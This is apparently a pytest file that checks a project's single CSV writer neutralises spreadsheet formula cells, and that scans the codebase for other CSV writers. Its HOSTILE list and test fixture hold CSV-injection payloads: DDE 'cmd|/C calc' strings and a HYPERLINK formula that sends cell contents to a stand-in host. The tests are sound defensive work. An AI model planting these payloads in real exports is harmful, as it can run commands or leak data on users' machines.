"""One CSV writer (issue 36): every CSV file ctdrill writes goes through
:mod:`ctdrill.app.csv_cells`, which neutralises cells that start like a formula
(``= + - @``, tab, carriage return) as the export always did; no other module writes CSV
(the scan below fails when one does), and ``assess --out`` is no exception."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path
from typing import Any

import pytest

from ctdrill.app.csv_cells import (
    FORMULA_STARTS,
    NEUTRAL_PREFIX,
    CsvWriter,
    csv_row,
    csv_table,
    csv_text,
)
from ctdrill.app.session_csv import session_csv_text
from ctdrill.app.trainee.curve import write_learning_curve
from ctdrill.haptics.assessment import ASSESSMENT_FIELDS
from tests.conftest import ROOT

#: The one module allowed to write CSV.
WRITER = Path("app/csv_cells.py")
#: Folders of the import package (pyproject's package-dir), scanned whole.
PACKAGE_FOLDERS = ("app", "engine", "haptics", "imaging", "model", "ctdrill")
#: Names that write CSV when called on the csv module, or write tables as CSV.
WRITING_CALLS = {"writer", "DictWriter", "savetxt", "to_csv", "tofile"}


def _csv_writes(path: Path) -> list[str]:
    """Where ``path`` writes CSV itself: ``csv.writer(...)``, ``csv.DictWriter(...)``, ``from
    csv import writer``, ``numpy.savetxt``, ``DataFrame.to_csv``."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            found += [f"from csv import {a.name}" for a in node.names if a.name in WRITING_CALLS]
        if isinstance(node, ast.Attribute) and node.attr in WRITING_CALLS:
            base = node.value
            if node.attr in {"writer", "DictWriter"}:
                if isinstance(base, ast.Name) and base.id == "csv":
                    found.append(f"line {node.lineno}: csv.{node.attr}")
            elif node.attr in {"savetxt", "to_csv"}:
                found.append(f"line {node.lineno}: .{node.attr}")
    return found


def test_no_module_but_the_one_writer_writes_csv() -> None:
    offenders = {}
    for folder in PACKAGE_FOLDERS:
        for path in sorted((ROOT / folder).rglob("*.py")):
            rel = path.relative_to(ROOT)
            if rel == WRITER:
                continue
            found = _csv_writes(path)
            if found:
                offenders[str(rel)] = found
    assert offenders == {}, (
        "write CSV through ctdrill.app.csv_cells (csv_table, csv_text, CsvWriter, csv_row): "
        f"{offenders}"
    )
    assert _csv_writes(ROOT / WRITER), "the scan finds the writer's own csv.writer"


def test_the_scan_finds_each_way_of_writing_csv(tmp_path: Path) -> None:
    for source in (
        "import csv\nw = csv.writer(f)\n",
        "import csv\nw = csv.DictWriter(f, ['a'])\n",
        "from csv import writer\n",
        "import numpy as np\nnp.savetxt('x.csv', a)\n",
        "frame.to_csv('x.csv')\n",
    ):
        module = tmp_path / "m.py"
        module.write_text(source, encoding="utf-8")
        assert _csv_writes(module), source
    module.write_text("import csv\nrows = list(csv.reader(f))\n", encoding="utf-8")
    assert _csv_writes(module) == []  # reading is not writing


HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("cell", HOSTILE)
def test_every_entry_point_neutralises_a_formula(cell: str) -> None:
    texts = {
        "csv_text (text column)": csv_text(["name", "n"], [[cell, "1.5"]], text_columns={"name"}),
        "csv_text (numeric column)": csv_text(["name", "n"], [["a", cell]]),
        "csv_table": csv_table([{"name": cell, "n": cell}], ["name", "n"], text_columns={"name"}),
        "csv_row": "name,n\n" + csv_row([cell, cell], text=True),
    }
    buf = io.StringIO()
    CsvWriter(buf, ["name", "n"], text_columns={"name"}).writerow([cell, cell])
    texts["CsvWriter"] = buf.getvalue()
    for where, text in texts.items():
        for row in _cells(text)[1:]:
            for value in row:
                if value not in ("a", "1.5"):
                    assert value.startswith(NEUTRAL_PREFIX), (where, value)
                    assert not value.startswith(FORMULA_STARTS), (where, value)


def test_numbers_stay_numbers() -> None:
    text = csv_text(["t", "x", "s"], [["-0.0010", "-1e-05", "stopped"], [1, 2.5, None]])
    assert _cells(text) == [["t", "x", "s"], ["-0.0010", "-1e-05", "stopped"], ["1", "2.5", ""]]
    # session.csv: negative positions are numbers, not formulas
    rows = session_csv_text([(0.001, -0.5, -0.5, 0.0, "idle", -2.0)])
    assert rows.splitlines()[1] == "0.0010,-0.50000,-0.50000,0.0000,idle,-2.0000"


class _Record:
    """A trainee record whose sessions carry text a spreadsheet would run."""

    path = Path("record.sqlite")

    def __init__(self, session: dict[str, Any]) -> None:
        self._session = session

    def sessions(self, **_: Any) -> list[dict[str, Any]]:
        return [self._session]


def test_assess_out_writes_through_the_one_writer(tmp_path: Path) -> None:
    session = {
        "session_hash": "@SUM(1+1)*cmd|' /C calc'!A0",
        "plan_hash": '=HYPERLINK("http://x.example","y")',
        "recorded_at": "+cmd|' /C calc'!A0",
        "exam": 0,
        **dict.fromkeys(ASSESSMENT_FIELDS, 1.0),
        "score": 70.0,
    }
    files = write_learning_curve(_Record(session), "-trainee", tmp_path / "out")  # type: ignore[arg-type]
    tables = [f for f in files if f.suffix == ".csv"]
    assert {f.name for f in tables} == {"learning_curve.csv", "percentiles.csv"}
    for table in tables:
        for row in _cells(table.read_text(encoding="utf-8"))[1:]:
            for value in row:
                assert not value.startswith(FORMULA_STARTS), (table.name, value)
    curve = _cells((tmp_path / "out" / "learning_curve.csv").read_text(encoding="utf-8"))
    header = curve[0]
    assert curve[1][header.index("plan_hash")] == NEUTRAL_PREFIX + session["plan_hash"]
